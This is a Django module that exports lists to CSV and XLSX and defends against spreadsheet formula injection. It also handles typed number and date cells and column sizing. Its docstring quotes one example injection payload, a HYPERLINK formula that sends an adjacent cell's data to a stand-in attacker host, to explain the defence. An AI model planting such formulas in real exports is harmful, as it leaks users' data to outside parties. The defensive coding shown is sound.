"""CSV and XLSX exports of any list, from the same columns as the page (SPEC 11).

Both are opened by people in Excel or WPS, so both are made safe and legible there:

- **Formula injection** (OWASP "CSV injection"): a text cell that begins with `=`, `+`,
  `-`, `@`, a tab or a carriage return would be run as a formula, so such text gets a
  leading `'`. A buyer's name is typed by insured users, and
  `=HYPERLINK("http://evil.example/?d="&A2,"x")` in a staff export would send the next
  cell to anyone clicking it. Numbers and dates are written as values, never as text, so
  a negative amount stays a number.
- **USCCs and other codes** are text: in the XLSX a string cell formatted `@`, so Excel
  shows all 18 characters and keeps them text when edited. The CSV stays plain text:
  Excel guesses types when it opens a CSV and shows an 18-digit USCC as `9.13205E+17`, but
  the usual remedy, `="913…"`, is itself a formula (just what we neutralise above) and
  would reach every other program as such. Use the XLSX for Excel, the CSV for other
  programs (or Excel's Data > From Text/CSV with the column set to text).
- **XLSX layout**: dates are date cells (`yyyy-mm-dd`, timestamps `yyyy-mm-dd hh:mm`),
  money numbers formatted `#,##0.00`, and every column is as wide as its content (Excel's
  default 8.43 shows a date or an amount as `#####`).
"""

import csv
import datetime
import unicodedata
from collections.abc import Iterable, Sequence
from decimal import Decimal
from itertools import islice

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

from core.tables import Column

EXPORT_ROW_CAP = 100_000
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
TEXT_FORMAT = "@"
# Column widths in Excel's units (about one digit of the default font; a Chinese
# character takes two). The first rows decide: the sheet is streamed, and widths must be
# written before the rows.
MIN_COLUMN_WIDTH = 10
MAX_COLUMN_WIDTH = 60
COLUMN_WIDTH_MARGIN = 2
WIDTH_SAMPLE_ROWS = 500


def neutralise(text: str) -> str:
    """Text a spreadsheet would take for a formula, made literal with a leading `'`."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _is_number(value) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def _is_value(value) -> bool:
    """Numbers and dates go out as what they are; everything else is text."""
    return _is_number(value) or isinstance(value, datetime.date)


class _Echo:
    def write(self, value):
        return value


def export_csv(rows: Iterable, columns: Sequence[Column], filename: str) -> StreamingHttpResponse:
    """Streamed CSV with a UTF-8 BOM so that Excel opens Chinese text correctly."""
    writer = csv.writer(_Echo())

    def cell(column: Column, obj) -> str:
        text = column.text(obj)
        return text if _is_value(column.raw(obj)) else neutralise(text)

    def generate():
        yield "\ufeff"
        yield writer.writerow([neutralise(str(c.label)) for c in columns])
        for obj in rows:
            yield writer.writerow([cell(c, obj) for c in columns])

    response = StreamingHttpResponse(generate(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def _display_width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def _text_cell(sheet, text: str) -> tuple[WriteOnlyCell, int]:
    text = neutralise(ILLEGAL_CHARACTERS_RE.sub("", text))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # also for "#N/A" and the like, which openpyxl makes errors
    cell.number_format = TEXT_FORMAT
    return cell, _display_width(text)


def _xlsx_cell(sheet, column: Column, obj) -> tuple[WriteOnlyCell, int]:
    """The cell for one value and the width its shown text needs."""
    value = column.raw(obj)
    if value is None:
        return WriteOnlyCell(sheet, value=None), 0
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):  # Excel has no time zones: show the business time
            value = timezone.localtime(value).replace(tzinfo=None)
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATETIME_FORMAT
        return cell, len("2026-11-25 09:30")
    if isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell, len("2026-11-25")
    if _is_number(value):
        cell = WriteOnlyCell(sheet, value=value)
        if column.kind == "money":
            cell.number_format = MONEY_FORMAT
            return cell, len(f"{value:,.2f}")
        return cell, len(str(value))
    return _text_cell(sheet, column.text(obj))


def _column_widths(header: list[int], sample: list[list[int]]) -> list[int]:
    widths = []
    for i, header_width in enumerate(header):
        content = max([header_width, *(row[i] for row in sample)])
        widths.append(min(MAX_COLUMN_WIDTH, max(MIN_COLUMN_WIDTH, content + COLUMN_WIDTH_MARGIN)))
    return widths


def export_xlsx(rows: Iterable, columns: Sequence[Column], filename: str) -> HttpResponse:
    """XLSX with real number and date cells, text cells that stay text, sized columns."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=filename[:31])
    header = [_text_cell(sheet, str(c.label)) for c in columns]

    def row_cells(obj) -> list[tuple[WriteOnlyCell, int]]:
        return [_xlsx_cell(sheet, column, obj) for column in columns]

    rows = iter(rows)
    sample = [row_cells(obj) for obj in islice(rows, WIDTH_SAMPLE_ROWS)]
    widths = _column_widths([w for _, w in header], [[w for _, w in row] for row in sample])
    # A write-only sheet takes its column widths and frozen header before the first row.
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    sheet.append([cell for cell, _ in header])
    for row in sample:
        sheet.append([cell for cell, _ in row])
    for obj in rows:  # the rest, streamed
        sheet.append([cell for cell, _ in row_cells(obj)])
    response = HttpResponse(
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    workbook.save(response)
    return response
